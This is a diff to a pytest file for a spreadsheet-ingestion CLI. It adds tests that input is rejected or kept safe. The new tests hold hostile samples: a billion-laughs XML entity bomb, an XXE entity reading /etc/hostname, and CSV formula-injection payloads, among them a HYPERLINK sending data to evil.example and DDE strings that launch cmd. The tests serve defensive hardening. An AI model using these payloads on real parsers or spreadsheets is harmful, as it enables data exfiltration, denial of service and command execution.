@@ -1,7 +1,8 @@
 """Input is read right, or refused with a reason — never garbled and called a success (issue 19 §3).
 
-Checks 26 (`test_zip_bomb_rejected_before_parse`), 27 (`test_not_a_workbook`) and 28
-(`test_csv_encodings_and_shapes`) of the reliability and security checks, plus the cases the issue found:
+Checks 25 (`test_xml_entity_attacks`), 26 (`test_zip_bomb_rejected_before_parse`), 27 (`test_not_a_workbook`),
+28 (`test_csv_encodings_and_shapes`) and 29 (`test_no_formula_injection_in_output`) of the reliability and
+security checks, plus the cases the issue found:
 UTF-16 and Shift-JIS text read as cp1252, an unterminated quote that swallowed every row below it, a valid
 workbook whose parts are not under `xl/`, and a sheet crafted to hold millions of cells in a few bytes.
 Jobs run through the real CLI (`ade run`, `ade job submit`) in subprocesses, as a user meets them.
@@ -39,7 +40,8 @@ def _members(cities: list[str], first: list[str] | None = None, sep: str = ",") 
     """A member list the sample roster package recognizes; the City column is carried to the output as is."""
     first = first or ["Zoë", "José", "Ann"]
     rows = [["Member ID", "First Name", "Last Name", "Email", "City"]]
-    rows += [[f"M-{100 + i}", first[i % len(first)], "Berg", f"m{i}@example.com", city] for i, city in enumerate(cities)]
+    rows += [[f"M-{100 + i}", first[i % len(first)], "Berg", f"m{i}@example.com", city]
+             for i, city in enumerate(cities)]
     return "".join(sep.join(r) + "\n" for r in rows)
 
 
@@ -287,10 +289,12 @@ def test_workbook_found_through_package_relationships(tmp_path, run_ade, sample_
 def test_office_document_that_is_not_a_workbook_still_says_what_it_is(tmp_path):
     path = tmp_path / "letter.xlsx"
     with zipfile.ZipFile(path, "w") as zf:
-        zf.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        zf.writestr("[Content_Types].xml",
+                    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                     '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
                     'officedocument.wordprocessingml.document.main+xml"/></Types>')
-        zf.writestr("_rels/.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        zf.writestr("_rels/.rels",
+                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                     'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
         zf.writestr("word/document.xml", "<document/>")
@@ -427,3 +431,68 @@ def _truncated(d: Path) -> Path:
 
 def _renamed(path: Path, name: str) -> Path:
     return path.rename(path.with_name(name))
+
+
+# ------------------------------------------------------------------------------------------------- check 25
+def _entity_workbook(tmp_path: Path, name: str, dtd: str, entity: str) -> Path:
+    base = badfiles.simple_workbook(tmp_path, f"{name}-base.xlsx")
+
+    def inject(xml: str) -> str:
+        xml = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
+        return dtd + xml.replace("<t>Ada</t>", f"<t>{entity}</t>", 1)
+
+    return badfiles.rewrite_member(base, tmp_path / name, "xl/worksheets/sheet1.xml", inject)
+
+
+LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
+          + "".join(f'<!ENTITY lol{i} "' + (f"&lol{i - 1};" if i > 1 else "&lol;") * 10 + '">' for i in range(1, 10))
+          + "]>")
+XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
+
+
+@pytest.mark.parametrize("defused_env", [None, "False"], ids=["default", "OPENPYXL_DEFUSEDXML=False"])
+def test_xml_entity_attacks(tmp_path, run_ade, sample_configs, monkeypatch, defused_env):
+    if defused_env is not None:
+        monkeypatch.setenv("OPENPYXL_DEFUSEDXML", defused_env)
+    hostname = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else ""
+    for name, dtd, entity in (("laughs.xlsx", LAUGHS, "&lol9;"), ("xxe.xlsx", XXE, "&x;")):
+        src = _entity_workbook(tmp_path, name, dtd, entity)
+        out = tmp_path / f"out-{name}"
+        proc = run_ade("run", src, "--config", sample_configs / ROSTER, "--out", out, "--json")
+        assert proc.returncode == 2, proc.stderr
+        err = json.loads(proc.stdout)["error"]
+        assert err["code"] == "input_unreadable" and "unsafe XML" in err["message"]
+        left = [p for p in out.rglob("*") if p.is_file()] if out.exists() else []
+        if hostname:
+            assert hostname not in proc.stdout + proc.stderr
+            assert not any(hostname in p.read_text(errors="replace") for p in left)
+        # Behind the gate, both readers refuse the entities on their own (defence in depth).
+        info = inspect_input(badfiles.simple_workbook(tmp_path, "ok.xlsx"), name)
+        for engine in ("calamine", "openpyxl"):
+            with pytest.raises(InputError):
+                with open_workbook(src, info, engine=engine) as reader:
+                    for _ in reader.iter_rows(reader.sheets()[0]):
+                        pass
+
+
+# ------------------------------------------------------------------------------------------------- check 29
+def test_no_formula_injection_in_output(tmp_path, run_ade, sample_configs):
+    payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0", "=1+1"]
+    src = tmp_path / "inject.csv"
+    with src.open("w", encoding="utf-8", newline="") as fh:
+        import csv
+
+        w = csv.writer(fh)
+        w.writerow(["Member ID", "First Name", "Last Name", "Email", "City"])
+        for i, p in enumerate(payloads):
+            w.writerow([f"M-{i}", "Ann", "Berg", f"m{i}@example.com", p])
+    proc, art, out = _run(run_ade, sample_configs, tmp_path, src)
+    assert proc.returncode == 0, proc.stderr
+    with zipfile.ZipFile(out / "normalized.xlsx") as zf:
+        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
+        xml = b"".join(zf.read(n) for n in sheets)
+    assert b"<f>" not in xml and b"<f " not in xml
+    cells = _cells(out)
+    for p in payloads:
+        assert p in cells  # kept as text, exactly
